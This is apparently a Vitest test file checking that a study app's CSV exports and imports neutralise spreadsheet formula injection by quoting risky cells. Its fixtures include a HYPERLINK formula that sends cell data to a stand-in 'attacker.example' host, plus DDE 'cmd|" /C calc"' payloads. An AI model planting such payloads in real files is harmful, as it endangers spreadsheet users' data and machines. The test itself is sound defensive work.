/**
 * CSV that cannot attack its reader (OWASP CSV Injection): the cell rule itself, then the real
 * exports fed a participant's formula, and the import reading its own export back exactly.
 */
import { describe, expect, it } from 'vitest'
import { parse } from 'csv-parse/sync'
import { stringify as csvStringify } from 'csv-stringify/sync'
import { neutraliseCell, restoreCell, stringifyCsv } from '../../../server/domain/formats/csv'
import { exportFiles } from '../../../server/domain/outcomes/exports'
import { importCohortCsv } from '../../../server/domain/outcomes/import'
import { table2Csv, codeFrequenciesCsv, type Table2, type CodeFrequencies } from '../../../server/domain/qualitative/table2'
import { createCohort, createStudy } from '../../../server/domain/staff/setup'
import { testDeps } from '../../helpers/app'
import { readExports } from '../../helpers/export-cohort'

const hyperlink = '=HYPERLINK("http://attacker.example/?d="&A2,"Open")'
/** Whether a spreadsheet would evaluate this cell (OWASP's list of first characters). */
const wouldRun = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/.test(cell)

describe('neutraliseCell and restoreCell', () => {
  it.each([
    [hyperlink, `'${hyperlink}`],
    ['+1+1', "'+1+1"],
    ['-2+3+cmd|" /C calc"!A0', `'-2+3+cmd|" /C calc"!A0`],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ["'=x", "''=x"],
  ])('quotes %j as %j, and restores it exactly', (value, written) => {
    expect(neutraliseCell(value)).toBe(written)
    expect(restoreCell(written)).toBe(value)
  })

  it.each(['-3', '+1.5', '-2e-3', '0', 'AT&T;', "'tis", 'نرس', '', 'a=b'])('leaves %j alone, both ways', (value) => {
    expect(neutraliseCell(value)).toBe(value)
    expect(restoreCell(value)).toBe(value)
  })

  it('is applied to every string cell by stringifyCsv, numbers untouched', () => {
    expect(stringifyCsv([['=1', -3, '-3', 'x']])).toBe("'=1,-3,-3,x\n")
  })

  it('writes the same bytes as csv-stringify whether a row takes the plain path or not', () => {
    const rows: unknown[][] = [
      ['P1', 'pre', 'phq-9', 'phq9_1', '3'],
      ['', '', ''],
      [''],
      [],
      ['a,b', 'say "hi"', 'two\nlines', 'cr\rhere', 'نرس', "'tis", 'a=b', '-3', '=1', "''=x"],
      ['P2', 4, true, null, undefined, 'x'],
      ['P3', 'enrolment', 'demographics', 'sex-Comment', ' spaced '],
    ]
    const reference = csvStringify(rows, { cast: { string: (value) => neutraliseCell(value) } })
    expect(stringifyCsv(rows)).toBe(reference)
    for (const row of rows) expect(stringifyCsv([row]), JSON.stringify(row)).toBe(csvStringify([row], { cast: { string: (value) => neutraliseCell(value) } }))
  })
})

describe('the exports, fed a participant’s formula', () => {
  it('write it as text in wide.csv and answers_long.csv, and the import reads answers_long.csv back exactly', async () => {
    const deps = await testDeps()
    const study = await createStudy(deps, { name: 'S' }, 'test')
    const cohort = await createCohort(deps, { studyId: study.id, name: 'A' }, 'test')
    const csv = stringifyCsv([
      ['participant', 'wave', 'instrument', 'item', 'value'],
      ['P1', 'enrolment', 'demographics', 'sex', 'other'],
      ['P1', 'enrolment', 'demographics', 'sex-Comment', hyperlink],
      ['P2', 'enrolment', 'demographics', 'sex', 'other'],
      ['P2', 'enrolment', 'demographics', 'sex-Comment', "'=already quoted"],
      ['P2', 'enrolment', 'demographics', 'age', '40'],
    ])
    await importCohortCsv(deps, { cohortId: cohort.id, csv }, 'test')
    const files = await readExports(await exportFiles(deps, cohort.id))

    for (const name of ['wide.csv', 'answers_long.csv', 'dictionary.csv', 'scores_long.csv'] as const) {
      const cells = (parse(files[name]) as string[][]).flat()
      expect(cells.filter(wouldRun), name).toEqual([])
    }
    expect((parse(files['wide.csv']) as string[][]).flat()).toContain(`'${hyperlink}`)
    expect((parse(files['answers_long.csv']) as string[][]).flat()).toContain(`'${hyperlink}`)

    // Round trip: import the export into a second cohort; its export is the same, line for line.
    const again = await createCohort(deps, { studyId: study.id, name: 'B' }, 'test')
    await importCohortCsv(deps, { cohortId: again.id, csv: files['answers_long.csv'] }, 'test')
    const second = await readExports(await exportFiles(deps, again.id))
    expect(second['answers_long.csv']).toBe(files['answers_long.csv'])
    const stored = await deps.db.selectFrom('response').innerJoin('participant', 'participant.id', 'response.participant_id').select('response.answers').where('participant.cohort_id', '=', again.id).execute()
    expect(stored.map((r) => JSON.parse(r.answers)['sex-Comment']).sort()).toEqual(["'=already quoted", hyperlink].sort())
  })

  it('write staff text in table2.csv and code-frequencies.csv as text', () => {
    const named = (name: string) => ({ id: name, name })
    const table2 = {
      study: named('S'),
      rows: [{ theme: named('@theme'), category: named('+category'), code: { ...named('=cmd|" /C calc"!A0'), description: null }, meaningUnits: [{ text: hyperlink, participant: { id: 'p', label: '-P1' } }] }],
      codes: 1,
      withMeaningUnit: 1,
      meaningUnits: 1,
    } as unknown as Table2
    const frequencies = { participants: [{ id: 'p', label: '=P1' }], rows: [{ theme: named('=t'), category: null, code: named('-c'), counts: [2], total: 2, participants: 1 }] } as unknown as CodeFrequencies
    for (const text of [table2Csv(table2), codeFrequenciesCsv(frequencies)]) {
      const cells = (parse(text) as string[][]).flat()
      expect(cells.filter(wouldRun)).toEqual([])
      expect(cells.some((c) => c.startsWith("'"))).toBe(true)
    }
  })
})
